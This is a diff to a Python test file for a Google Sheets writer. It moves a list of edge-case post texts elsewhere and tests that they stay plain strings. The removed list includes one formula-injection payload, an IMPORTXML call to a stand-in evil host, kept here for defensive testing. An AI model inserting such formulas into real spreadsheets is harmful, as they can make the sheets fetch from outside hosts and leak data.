@@ -18,25 +18,11 @@ from google_sheets import GoogleSheetsSink, open_client
 from local_stack import service_account_info
 from merge import merge_posts, owned_columns
 from sink import ACCOUNTS_SHEET, DATA_SHEET, SinkError
+from threads_simulator import HOSTILE_TEXTS
 
 SHEET_ID = "spreadsheet-1"
 OWNED = owned_columns(["id", "text", "media_type"])
-HOSTILE_TEXTS = [
-    '=IMPORTXML("http://evil.example","//a")',
-    "+7 999 123-45-67",
-    "-5%",
-    "@mention hi",
-    "NA",
-    "null",
-    "N/A",
-    "#N/A",
-    "TRUE",
-    "0012",
-    "1e5",
-    "'quoted",
-    "2024-01-05",
-    "Привет 👋\nвторая строка",
-]
+HOSTILE = [*HOSTILE_TEXTS, "#N/A", "2024-01-05", "Привет 👋\nвторая строка"]
 
 
 @pytest.fixture
@@ -77,13 +63,13 @@ def test_update_rows_keep_18_digit_ids_exact_as_text(world, sheets):
 def test_update_rows_keep_formula_like_and_na_like_texts_as_text(world, sheets):
     records = [
         {"account_name": "a", "post_id": str(1000 + index), "text": text}
-        for index, text in enumerate(HOSTILE_TEXTS)
+        for index, text in enumerate(HOSTILE)
     ]
     write(sheets, *records)
     rows = world.values(SHEET_ID, DATA_SHEET, "FORMULA")[1:]
     text_column = OWNED.index("text")
-    assert [row[text_column] for row in rows] == HOSTILE_TEXTS
-    for row in range(2, 2 + len(HOSTILE_TEXTS)):
+    assert [row[text_column] for row in rows] == HOSTILE
+    for row in range(2, 2 + len(HOSTILE)):
         assert data_cell(world, f"C{row}").kind == "string"
     # And a second run reads them back exactly, so nothing changes and no duplicate appears.
     again = merge_posts(sheets.read_posts(), pd.DataFrame.from_records(records), OWNED)
